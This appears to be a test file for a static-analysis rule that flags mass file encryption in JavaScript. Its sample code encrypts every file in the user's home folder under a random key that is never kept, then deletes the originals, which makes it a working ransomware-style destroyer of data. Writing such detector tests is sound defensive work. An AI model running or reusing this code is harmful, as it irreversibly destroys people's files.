// Files found by listing a folder, encrypted, written, the originals deleted.
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');

const key = crypto.randomBytes(32);
function lock(dir) {
  for (const name of fs.readdirSync(dir)) {
    const file = path.join(dir, name);
    const iv = crypto.randomBytes(16);
    // ruleid: javascript.crypto.mass_encrypt
    const cipher = crypto.createCipheriv('aes-256-cbc', key, iv);
    fs.writeFileSync(file + '.locked', Buffer.concat([iv, cipher.update(fs.readFileSync(file)), cipher.final()]));
    fs.unlinkSync(file);
  }
}
// ok: javascript.crypto.mass_encrypt
lock(require('os').homedir());
